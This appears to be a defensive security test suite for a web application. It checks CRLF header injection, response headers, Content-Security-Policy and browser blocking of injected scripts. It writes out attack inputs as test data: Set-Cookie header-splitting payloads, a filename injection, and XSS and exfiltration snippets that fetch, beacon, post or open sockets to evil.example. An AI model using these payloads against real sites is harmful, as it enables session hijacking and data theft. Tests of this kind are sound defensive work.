/** Words of others in headers, and the headers that keep a browser from running or framing anything but our page. */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { Browser, Request } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { launch } from "../browser/scripted-page.ts";
import type { Product } from "../fixtures/product.ts";
import { openAttacks } from "./attacks.ts";
import { type Address, readRoutes, send, sendBytes, startTarget, staticAddresses } from "./target.ts";

const { attempt } = openAttacks("headers");
const builtPage = fileURLToPath(new URL("../../dist/web", import.meta.url));
let product: Product;
let session: string;
let everyAddress: Address[];
beforeAll(async () => {
  product = await startTarget({ THOTH_PRESTART: "0" });
  session = await product.create("How many artists are there?\r\nSet-Cookie: injected=1");
  everyAddress = [...(await readRoutes(product, session)), ...staticAddresses(session)];
}, 300_000);
afterAll(() => product?.remove());

const inside = () => ({ host: `127.0.0.1:${product.port}`, authorization: `Bearer ${product.token}` });

it("lets no text become a header, whichever way it comes", async () => {
  const { host, authorization } = inside();
  const raw = (line: string, more = "") =>
    sendBytes(
      product.port,
      `${line} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: ${authorization}\r\n${more}Connection: close\r\n\r\n`,
    );
  await product.call(`/api/sessions/${session}`, "PATCH", {
    name: 'x"; filename="evil.exe"\r\nSet-Cookie: injected=1\r\n\r\n<script>',
  });
  const splits = [
    "%0d%0aSet-Cookie:%20injected=1",
    "%0aSet-Cookie:%20injected=1",
    "%E5%98%8A%E5%98%8DSet-Cookie:%20injected=1",
    "%5cr%5cnSet-Cookie:%20injected=1",
    "\u0085Set-Cookie: injected=1",
  ].map(encodeURI);
  const paths = [
    "/",
    "/api/sessions",
    `/api/sessions/${session}/report`,
    `/api/sessions/${session}/result`,
    "/api/workspaces/demo/rows",
    "/nothing",
  ].flatMap((path) =>
    splits.flatMap((split) => [`${path}${split}`, `${path}?format=${split}`, `${path}?code=${split}`]),
  );
  for (const path of paths) {
    await attempt(`split by ${path.slice(0, 70)}`, async () => {
      const [head = ""] = (await raw(`GET ${path}`)).split("\r\n\r\n");
      expect(head).not.toMatch(/^set-cookie/im);
    });
  }
  for (const [what, header] of [
    ["Last-Event-ID", "Last-Event-ID: a-1\rSet-Cookie: injected=1\r\n"],
    ["Origin", "Origin: http://evil.example\rSet-Cookie: injected=1\r\n"],
    ["Accept", "Accept: text/html\rSet-Cookie: injected=1\r\n"],
    ["Cookie", "Cookie: a=b\rSet-Cookie: injected=1\r\n"],
    ["Range", "Range: bytes=0-1\rSet-Cookie: injected=1\r\n"],
  ] as const) {
    await attempt(`a bare return in ${what}`, async () => {
      const [head = ""] = (await raw(`GET /api/sessions/${session}/events`, header)).split("\r\n\r\n");
      expect(head).not.toMatch(/^set-cookie/im);
      expect(head).not.toContain("injected");
    });
  }
  for (const format of ["html", "md"]) {
    await attempt(`the name of the report as ${format}`, async () => {
      const answer = await send(product.port, {
        path: `/api/sessions/${session}/report?format=${format}`,
        headers: inside(),
      });
      expect(answer.headers["content-disposition"]).toBe(`inline; filename="thoth-${session}.${format}"`);
      expect(answer.headers["set-cookie"]).toBe(undefined);
    });
  }
}, 300_000);

it("compresses neither a stream nor what an answer of the API says, whatever is asked for", async () => {
  const headers = { ...inside(), "accept-encoding": "br, gzip" };
  for (const path of [`/api/sessions/${session}/events`, "/api/sessions", `/api/sessions/${session}`, "/api/models"]) {
    await attempt(`compressed ${path}`, async () => {
      const answer = await send(product.port, { path, headers });
      expect(answer.status).toBe(200);
      expect(answer.headers["content-encoding"]).toBe(undefined);
      if (path.endsWith("/events")) expect(answer.headers["cache-control"]).toContain("no-transform");
    });
  }
});

it("sends the same policy with every answer: own scripts only, no frame, no guessing of types", async () => {
  const { host } = inside();
  const kinds: [string, Record<string, string>][] = [
    ["inside", inside()],
    ["outside", { host }],
    ["a foreign name", { host: "evil.example" }],
    ["a browser outside", { host, accept: "text/html" }],
  ];
  for (const { method, path } of everyAddress) {
    for (const [what, headers] of path.startsWith("/assets/") ? kinds.slice(0, 1) : kinds) {
      await attempt(`${what}: ${method} ${path}`, async () => {
        const answer = await send(product.port, { method, path, headers });
        const policy = Object.fromEntries(
          String(answer.headers["content-security-policy"])
            .split(";")
            .map((part) => {
              const [name = "", ...values] = part.trim().split(" ");
              return [name, values.join(" ")];
            }),
        );
        expect(policy["default-src"]).toBe("'self'");
        expect(policy["script-src"]).toBe("'self'");
        expect(policy["frame-ancestors"]).toBe("'none'");
        expect(policy["object-src"]).toBe("'none'");
        expect(policy["base-uri"]).toBe("'none'");
        expect(policy["connect-src"]).toBe("'self'");
        expect(answer.headers["x-content-type-options"]).toBe("nosniff");
        expect(answer.headers["x-frame-options"]).toBe("DENY");
        expect(answer.headers["referrer-policy"]).toBe("no-referrer");
        expect(answer.headers["x-powered-by"]).toBe(undefined);
        expect(answer.headers.server).toBe(undefined);
        if (!path.startsWith("/assets/")) expect(answer.headers["cache-control"]).toMatch(/no-store|no-cache/);
      });
    }
  }
}, 300_000);

it("the built page holds no inline script, no handler and no address of anybody else", async () => {
  const html = readFileSync(join(builtPage, "index.html"), "utf8");
  await attempt("inline scripts", () =>
    expect([...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)].filter((found) => found[1] !== "")).toEqual([]),
  );
  await attempt("handlers", () => expect(html).not.toMatch(/\son\w+\s*=|javascript:|srcdoc|<base|http-equiv/i));
  for (const name of readdirSync(join(builtPage, "assets")).filter((file) => /\.(js|css)$/.test(file))) {
    await attempt(`addresses in ${name}`, () => {
      const text = readFileSync(join(builtPage, "assets", name), "utf8");
      // Nothing is fetched from elsewhere: what remains are names of XML and of documentation in messages.
      expect(text).not.toMatch(/(?:import|fetch|url|src=|href=)\s*\(?["'`]https?:\/\/(?!www\.w3\.org)/);
      expect(text).not.toMatch(/\bimportScripts\b|document\.write\(/);
    });
  }
});

it("in a real browser the policy holds: no inline script, handler, eval, frame or foreign address works", async () => {
  let browser: Browser | undefined;
  try {
    browser = await launch();
    const page = await (await browser.newContext()).newPage();
    const asked: Request[] = [];
    page.on("request", (request) => void asked.push(request));
    await page.goto(await product.address());
    await page.waitForURL(`${product.base}/`);
    const tries: [string, string][] = [
      [
        "an inline script",
        `const s = document.createElement("script"); s.textContent = "window.pwned = 1"; document.body.append(s);`,
      ],
      ["a handler", `document.body.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.pwned = 1">');`],
      [
        "a foreign script",
        `const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s);`,
      ],
      [
        "a data script",
        `const s = document.createElement("script"); s.src = "data:text/javascript,window.pwned=1"; document.body.append(s);`,
      ],
      ["an image beacon", `new Image().src = "https://evil.example/beacon.png";`],
      ["a style beacon", `document.body.style.backgroundImage = "url(https://evil.example/style.png)";`],
      ["a fetch", `fetch("https://evil.example/fetch").catch(() => undefined);`],
      ["a beacon", `navigator.sendBeacon("https://evil.example/send", "x");`],
      ["a web socket", `try { new WebSocket("wss://evil.example/socket"); } catch {}`],
      [
        "a frame",
        `const f = document.createElement("iframe"); f.src = "https://evil.example/frame"; document.body.append(f);`,
      ],
      [
        "an object",
        `document.body.insertAdjacentHTML("beforeend", '<object data="https://evil.example/object"></object>');`,
      ],
      [
        "a form",
        `document.body.insertAdjacentHTML("beforeend", '<form action="https://evil.example/form" method="post"></form>'); document.forms[document.forms.length - 1].submit();`,
      ],
      ["a base", `document.head.insertAdjacentHTML("beforeend", '<base href="https://evil.example/">');`],
      [
        "a javascript link",
        `document.body.insertAdjacentHTML("beforeend", '<a id="jslink" href="javascript:window.pwned=1">x</a>'); document.getElementById("jslink").click();`,
      ],
      [
        "a worker",
        `try { new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.example/worker')"]))); } catch {}`,
      ],
    ];
    for (const [what, code] of tries) {
      await attempt(`policy: ${what}`, async () => {
        asked.length = 0;
        await page.evaluate(`(() => { ${code} })()`);
        await page.waitForTimeout(150);
        expect(await page.evaluate("window.pwned")).toBe(undefined);
        // The browser tells of a request that it refused to send as well: with the policy as its reason.
        const sent = asked.filter(
          (request) => request.url().includes("evil.example") && request.failure()?.errorText !== "csp",
        );
        expect(sent.map((request) => `${request.url()} ${request.failure()?.errorText}`)).toEqual([]);
        expect(page.url()).toMatch(product.base);
        expect(await page.evaluate("document.baseURI")).toMatch(product.base);
      });
    }
    await attempt("policy: eval", async () => {
      const evaluated = await page.evaluate(
        `new Promise((done) => { const s = document.createElement("button"); s.setAttribute("onclick", "window.pwned = 1"); document.body.append(s); s.click(); done(window.pwned); })`,
      );
      expect(evaluated).toBe(undefined);
    });
  } finally {
    await browser?.close();
  }
}, 300_000);
